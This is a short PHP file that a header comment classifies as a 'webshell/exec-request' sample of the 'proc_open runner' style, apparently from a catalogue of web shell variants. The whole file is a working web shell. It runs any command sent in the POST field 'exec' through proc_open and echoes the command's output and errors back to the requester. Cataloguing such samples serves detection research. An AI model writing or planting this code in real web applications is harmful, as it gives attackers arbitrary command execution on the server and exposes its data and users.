<?php
/* Family: webshell/exec-request
 * Style: proc_open runner
 * Trait: proc_open on a POST command with pipes, output echoed */
$d = array(1 => array('pipe', 'w'), 2 => array('pipe', 'w'));
$p = proc_open($_POST['exec'], $d, $io);
echo stream_get_contents($io[1]) . stream_get_contents($io[2]);
